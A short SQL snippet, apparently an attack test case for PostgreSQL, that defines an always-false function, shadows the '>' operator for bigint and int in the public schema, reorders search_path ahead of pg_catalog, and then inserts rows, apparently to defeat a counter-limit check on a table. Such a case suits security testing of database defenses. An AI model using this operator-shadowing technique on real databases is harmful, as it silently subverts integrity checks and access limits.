-- Gives the comparison of counters another meaning.
-- wants: fill
-- attack:
CREATE FUNCTION public.never_more(bigint, int) RETURNS boolean LANGUAGE sql AS 'SELECT false';
CREATE OPERATOR public.> (LEFTARG = bigint, RIGHTARG = int, FUNCTION = public.never_more);
SET search_path = public, pg_catalog;
INSERT INTO dmo_nearly SELECT n, 'x' FROM generate_series(1001, 1006) n;
